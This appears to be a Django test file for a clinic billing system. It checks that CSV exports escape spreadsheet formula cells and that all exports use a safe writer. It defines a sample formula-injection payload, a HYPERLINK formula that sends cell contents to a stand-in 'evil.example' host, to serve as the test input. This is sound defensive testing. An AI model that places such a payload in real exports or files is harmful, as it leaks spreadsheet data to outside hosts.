"""CSV exports neutralise formula cells: a payer named =HYPERLINK(…) reaches the spreadsheet as text."""

from __future__ import annotations

import csv
import datetime as dt
import io
import pathlib
import re
from decimal import Decimal

from django.urls import reverse
from django.utils import timezone

from sessions.billing import services as billing
from tests import factories as f
from tests.factories_billing import CoverageFactory, PayerFactory, discharged_session

EVIL = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
ROOT = pathlib.Path(__file__).resolve().parents[2]


def test_a_payer_named_as_a_formula_is_exported_as_text(admin_client_, prices):
    patient = f.PatientFactory()
    CoverageFactory(patient=patient, payer=PayerFactory(name=EVIL), copay=Decimal("40.00"))
    # Held three hours ago, so discharged (2 h 30 later) before now: a session starting now was discharged in
    # the future, after midnight clinic time from 21:30 on, outside the report's default period ending today.
    held = timezone.now() - dt.timedelta(hours=3)
    billing.charge_session(session=discharged_session(patient=patient, when=held, given=56))
    response = admin_client_.get(reverse("billing_report_csv", args=["by-payer"]))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8").lstrip("\ufeff"))))
    payer_cells = [row[0] for row in rows[1:]]
    assert "'" + EVIL in payer_cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row if not _number(cell))


def _number(cell: str) -> bool:
    return re.fullmatch(r"-?\d+(\.\d+)?", cell) is not None


def test_every_csv_export_writes_through_the_safe_writer():
    offenders = [
        str(path.relative_to(ROOT))
        for folder in ("clinic", "sessions")
        for path in (ROOT / folder).rglob("*.py")
        if path.name != "csvsafe.py" and re.search(r"csv\.(writer|DictWriter)\(", path.read_text())
    ]
    assert not offenders, f"write CSV through clinic.csvsafe.writer: {offenders}"
